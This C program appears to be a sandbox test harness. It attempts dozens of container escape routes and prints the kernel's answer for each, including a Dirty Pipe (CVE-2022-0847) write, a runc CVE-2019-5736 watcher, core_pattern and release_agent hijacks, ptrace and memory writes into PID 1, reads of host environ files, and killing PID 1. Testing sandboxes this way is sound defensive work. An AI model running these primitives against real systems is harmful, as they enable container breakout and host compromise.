/* Tries to get out of a sandbox, each way by itself, and says what the kernel answered: a name and an errno a line; 0 is a way out. */
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static void tell(const char *name, long got) {
  printf("%s %d\n", name, got < 0 ? errno : 0);
  errno = 0;
}
static long put(const char *file, const char *text) {
  int fd = open(file, O_WRONLY);
  if (fd < 0) return -1;
  return write(fd, text, strlen(text)) < 0 ? -1 : 0;
}

/* getpid as a program of 32 bits calls it. */
static long old_call(void) {
#ifdef __x86_64__
  long got = 20;
  __asm__ volatile("int $0x80" : "+a"(got) : : "memory", "r8", "r9", "r10", "r11");
  if (got >= 0) return got;
  errno = (int)-got;
#else
  errno = ENOSYS;
#endif
  return -1;
}

/* Who can trace process 1 can undo that it dies with its owner, and write to the program that it runs. */
static void first_process(void) {
  char word[8] = "";
  struct iovec here = {word, sizeof word}, there = {(void *)0x400000, sizeof word};
  int first = (int)syscall(434 /* pidfd_open */, 1, 0);
  tell("first-trace", ptrace(PTRACE_SEIZE, 1, 0, 0));
  tell("first-memory", open("/proc/1/mem", O_RDWR));
  tell("first-program", open("/proc/1/exe", O_PATH));
  tell("first-root", open("/proc/1/root", O_PATH));
  tell("first-environ", open("/proc/1/environ", O_RDONLY));
  tell("first-descriptor", syscall(438 /* pidfd_getfd */, first, 0, 0));
  tell("first-write", process_vm_writev(1, &here, 1, &there, 1, 0));
  tell("first-advice", syscall(440 /* process_madvise */, first, &there, 1, 21, 0));
}

/* What leads around a mount that is read-only, tried on a file that can be read. */
static void read_only_file(const char *file) {
  int fd = open(file, O_RDONLY), pipes[2];
  char link_of[64], word[] = "escaped";
  snprintf(link_of, sizeof link_of, "/proc/self/fd/%d", fd);
  tell("file-again", open(link_of, O_WRONLY));
  tell("file-hard-link", link(file, "hard"));
  tell("file-hard-link-by-descriptor", linkat(AT_FDCWD, link_of, AT_FDCWD, "hard", AT_SYMLINK_FOLLOW));
  tell("file-rename", rename(file, "renamed"));
  tell("file-remove", unlink(file));
  tell("file-truncate", truncate(file, 0));
  tell("file-mode", fchmod(fd, 0666));
  tell("file-owner", fchown(fd, getuid(), getgid()));
  tell("file-times", futimens(fd, NULL));
  tell("file-attribute", fsetxattr(fd, "user.escaped", "x", 1, 0));
  tell("file-flags", ioctl(fd, FS_IOC_SETFLAGS, &(int){0}));
  tell("file-lease", fcntl(fd, F_SETLEASE, F_RDLCK));
  char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  tell("file-protect", mprotect(shared, 4096, PROT_READ | PROT_WRITE));
  int memory = open("/proc/self/mem", O_RDWR);
  tell("file-own-memory", pwrite(memory, word, 7, (off_t)(size_t)shared));
  /* CVE-2022-0847: a page of the file in a pipe, of which the kernel forgot that it is no page of the pipe. No call fails where it works: the
     file tells. */
  if (pipe(pipes) == 0) {
    char filled[4096] = "";
    for (int i = 0; i < 16; i++)
      if (write(pipes[1], filled, sizeof filled) < 0) break;
    for (int i = 0; i < 16; i++)
      if (read(pipes[0], filled, sizeof filled) < 0) break;
    loff_t at = 0;
    if (splice(fd, &at, pipes[1], NULL, 1, 0) == 1 && write(pipes[1], word, 7) < 0) errno = 0;
  }
  /* A change of what was mapped privately is one's own, and read from the file it is not there. */
  char *own = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  if (pwrite(memory, word, 7, (off_t)(size_t)own) < 0) errno = 0;
}

/* A call that its tracer makes of another one, behind the look of the filter. */
static long by_tracer(void) {
#ifdef __x86_64__
  pid_t child = fork();
  if (child == 0) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    raise(SIGSTOP);
    long got = syscall(SYS_getppid);
    _exit(got == 0 ? 0 : errno == EPERM ? 2 : 1);
  }
  int status;
  struct user_regs_struct registers;
  waitpid(child, &status, 0);
  for (;;) {
    if (ptrace(PTRACE_SYSCALL, child, 0, 0) < 0 || waitpid(child, &status, 0) < 0 || !WIFSTOPPED(status)) break;
    if (ptrace(PTRACE_GETREGS, child, 0, &registers) < 0 || registers.orig_rax != SYS_getppid) continue;
    registers.orig_rax = SYS_unshare;
    registers.rdi = CLONE_NEWUSER;
    ptrace(PTRACE_SETREGS, child, 0, &registers);
  }
  if (WIFEXITED(status) && WEXITSTATUS(status) == 0) return 0;
#endif
  errno = EPERM;
  return -1;
}

/* Out of a changed root, by a directory that lies outside of it. */
static long out_of_root(void) {
  if (mkdir("jail", 0755) < 0 && errno != EEXIST) return -1;
  pid_t child = fork();
  if (child == 0) {
    if (chroot("jail") < 0) _exit(errno);
    for (int i = 0; i < 64; i++)
      if (chdir("..") < 0) _exit(errno);
    if (chroot(".") < 0) _exit(errno);
    int fd = open("/etc/escaped", O_WRONLY | O_CREAT, 0600);
    _exit(fd < 0 ? errno : 0);
  }
  int status;
  waitpid(child, &status, 0);
  errno = WEXITSTATUS(status);
  return errno ? -1 : 0;
}

static long netlink(int protocol, const void *bytes, size_t length, unsigned group) {
  int fd = socket(AF_NETLINK, SOCK_RAW, protocol);
  struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_groups = group};
  if (fd < 0) return -1;
  if (sendto(fd, bytes, length, 0, (struct sockaddr *)&to, sizeof to) < 0) return -1;
  struct {
    struct nlmsghdr head;
    struct nlmsgerr error;
    char rest[512];
  } answer = {0};
  if (recv(fd, &answer, sizeof answer, MSG_DONTWAIT) < 0) return group ? 0 : -1;
  errno = answer.head.nlmsg_type == NLMSG_ERROR ? -answer.error.error : 0;
  return errno ? -1 : 0;
}

static void network(void) {
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct ifreq request = {.ifr_name = "lo", .ifr_flags = IFF_UP};
  tell("network-device", ioctl(fd, 0x8914 /* SIOCSIFFLAGS */, &request));
  char replace[256] = "filter";
  tell("iptables", setsockopt(fd, IPPROTO_IP, 64 /* IPT_SO_SET_REPLACE */, replace, sizeof replace));
  /* A batch of nftables' that makes a table. */
  struct {
    struct nlmsghdr head;
    unsigned char family, version, resource[2];
  } batch[2] = {{{20, 16 /* NFNL_MSG_BATCH_BEGIN */, NLM_F_REQUEST | NLM_F_ACK, 1, 0}, 0, 0, {0, 10}},
                {{20, 17 /* NFNL_MSG_BATCH_END */, NLM_F_REQUEST, 2, 0}, 0, 0, {0, 10}}};
  tell("nftables", netlink(NETLINK_NETFILTER, batch, sizeof batch, 0));
  /* RTM_NEWROUTE */
  struct {
    struct nlmsghdr head;
    unsigned char route[12];
  } route = {{28, 24, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, 1, 0}, {AF_INET, 0, 0, 0, 254, 4, 253, 6}};
  tell("route", netlink(NETLINK_ROUTE, &route, sizeof route, 0));
  tell("device-event", netlink(NETLINK_KOBJECT_UEVENT, "add@/x", 7, 2));
}

/* What listens outside of a network of one's own: a port of the machine's, and a name. */
static void outside_network(const char *port, const char *name) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port)), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  tell("host-port", connect(fd, (struct sockaddr *)&at, sizeof at));
  struct sockaddr_un {
    unsigned short family;
    char path[108];
  } named = {.family = AF_UNIX};
  strcpy(named.path + 1, name);
  fd = socket(AF_UNIX, SOCK_STREAM, 0);
  /* Some bind the name, and some all the room that there is for one. */
  int done = connect(fd, (struct sockaddr *)&named, (unsigned)(3 + strlen(name)));
  tell("host-name", done < 0 ? connect(fd, (struct sockaddr *)&named, sizeof named) : done);
}

/* Descriptors of the programs that start beside this one, which are the host's as long as they are not the command (CVE-2019-5736). */
static void watch_starts(const char *program) {
  char path[64], to[512];
  int found = 0, seen = 0;
  for (pid_t pid = 2; access("stop", F_OK) < 0;) {
    for (pid = 2; pid < 400; pid++) {
      if (pid == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY);
      if (fd < 0) continue;
      seen = 1;
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      ssize_t length = readlink(path, to, sizeof to - 1);
      if (length > 0 && (to[length] = 0, strstr(to, program))) found = 1;
      close(fd);
    }
  }
  /* Who has seen no command start has not looked. */
  errno = EACCES;
  tell("starting-program", found || !seen ? 0 : -1);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc > 1 && strcmp(argv[1], "who") == 0) return printf("%d\n", geteuid()) < 0;
  if (argc > 2 && strcmp(argv[1], "watch") == 0) return watch_starts(argv[2]), 0;
  if (argc > 3 && strcmp(argv[1], "network") == 0) return outside_network(argv[2], argv[3]), 0;
  first_process();
  if (argc > 1 && strcmp(argv[1], "first") == 0) return 0;
  /* Nothing is told of these: who made the sandbox finds it as it was. */
  kill(1, SIGSTOP);
  kill(1, SIGKILL);
  tell("mount", mount("none", "/mnt", "tmpfs", 0, NULL));
  tell("remount", mount("none", "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  tell("umount", umount2("/tmp", MNT_DETACH));
  tell("umount-proc-sys", umount2("/proc/sys", MNT_DETACH));
  tell("pivot_root", syscall(SYS_pivot_root, ".", "."));
  tell("open_tree", syscall(428, AT_FDCWD, "/", 1));
  tell("fsopen", syscall(430, "tmpfs", 0));
  tell("mount_setattr", syscall(442, AT_FDCWD, "/", 0, &(long[4]){0, 1, 0, 0}, 32));
  tell("unshare-user", unshare(CLONE_NEWUSER));
  tell("unshare-mount", unshare(CLONE_NEWNS));
  tell("unshare-net", unshare(CLONE_NEWNET));
  tell("clone-user", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
  tell("clone3", syscall(435, NULL, 0));
  tell("setns", syscall(SYS_setns, open("/proc/self/ns/net", O_RDONLY), 0));
  tell("bpf", syscall(SYS_bpf, 5, NULL, 0));
  tell("open_tree_attr", syscall(467, AT_FDCWD, "/", 1, &(long[4]){0, 1, 0, 0}, 32));
  tell("32-bit", old_call());
  tell("x32", syscall(0x40000000 | SYS_getpid));
  tell("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1));
  tell("add_key", syscall(SYS_add_key, "user", "x", "y", 1, KEY_SPEC_USER_KEYRING));
  tell("request_key", syscall(SYS_request_key, "user", "x", NULL, 0));
  tell("userfaultfd", syscall(SYS_userfaultfd, 0));
  tell("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
  tell("io_uring", syscall(425, 1, NULL));
  tell("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
  tell("init_module", syscall(SYS_init_module, NULL, 0, ""));
  tell("swapon", syscall(SYS_swapon, "/nothing", 0));
  /* Without the magic numbers nobody restarts anything. */
  tell("reboot", syscall(SYS_reboot, 1, 1, 0, NULL));
  tell("syslog", syscall(SYS_syslog, 10, NULL, 0));
  tell("settimeofday", syscall(SYS_settimeofday, &(struct timeval){1, 0}, NULL));
  tell("sethostname", sethostname("x", 1));
  tell("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, NULL, 0));
  tell("mknod", mknod("disk", S_IFBLK | 0600, makedev(254, 0)));
  tell("mknod-character", mknod("kmem", S_IFCHR | 0600, makedev(1, 1)));
  tell("vsock", socket(40, SOCK_STREAM, 0));
  tell("packet", socket(AF_PACKET, SOCK_RAW, 0));
  tell("alg", socket(38, SOCK_SEQPACKET, 0));
  tell("tipc-pair", socketpair(30, SOCK_SEQPACKET, 0, (int[2]){0}));
  tell("raw", socket(AF_INET, SOCK_RAW, 1));
  tell("tiocsti", ioctl(0, TIOCSTI, "x"));
  tell("tioclinux", ioctl(0, TIOCLINUX, "\2"));
  int terminal = posix_openpt(O_RDWR | O_NOCTTY);
  tell("line-discipline", ioctl(terminal, TIOCSETD, &(int){21 /* N_GSM0710 */}));
  tell("line-discipline-no-module", ioctl(terminal, TIOCSETD, &(int){0}));
  tell("console", ioctl(0, TIOCCONS, 0));
  tell("fanotify", syscall(SYS_fanotify_init, 4 /* FAN_CLASS_CONTENT */, 0));
  tell("by-tracer", by_tracer());
  tell("out-of-root", out_of_root());
  tell("real-time", sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){1}));
  tell("host-limits", syscall(SYS_prlimit64, argc > 1 ? (pid_t)strtol(argv[1], NULL, 10) : 999999, 7, NULL, &(long[2]){0}));
  tell("oom-score", put("/proc/self/oom_score_adj", "-1000"));
  network();
  tell("new-privs", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 1 ? (errno = EPERM, -1) : 0);
  tell("core_pattern", put("/proc/sys/kernel/core_pattern", "|/tmp/x"));
  tell("sysctl", put("/proc/sys/kernel/hostname", "x"));
  tell("binfmt", put("/proc/sys/fs/binfmt_misc/register", ":x:M::x::/tmp/x:"));
  tell("release-agent", put("/sys/fs/cgroup/release_agent", "/tmp/x"));
  tell("cgroup", put("/sys/fs/cgroup/cgroup.procs", "0"));
  tell("cgroup-new", mkdir("/sys/fs/cgroup/escaped", 0755));
  tell("uevent-helper", put("/sys/kernel/uevent_helper", "/tmp/x"));
  tell("power", put("/sys/power/state", "x"));
  tell("kernel-memory", open("/proc/kcore", O_RDONLY));
  tell("fuse", open("/dev/fuse", O_RDWR));
  tell("tun", open("/dev/net/tun", O_RDWR));
  tell("sysrq", put("/proc/sysrq-trigger", "h"));
  tell("memory", open("/dev/mem", O_RDWR));
  tell("kernel-log", put("/dev/kmsg", "x"));
  tell("host-signal", kill(argc > 1 ? (pid_t)strtol(argv[1], NULL, 10) : 999999, 0));
  tell("host-ptrace", ptrace(PTRACE_ATTACH, argc > 1 ? (pid_t)strtol(argv[1], NULL, 10) : 999999, 0, 0));
  char environment[64];
  snprintf(environment, sizeof environment, "/proc/%s/environ", argc > 1 ? argv[1] : "999999");
  tell("host-environ", open(environment, O_RDONLY));
  if (argc > 2) read_only_file(argv[2]);
  for (int i = 3; i < argc; i++) tell(argv[i], put(argv[i], "escaped"));
  return 0;
}
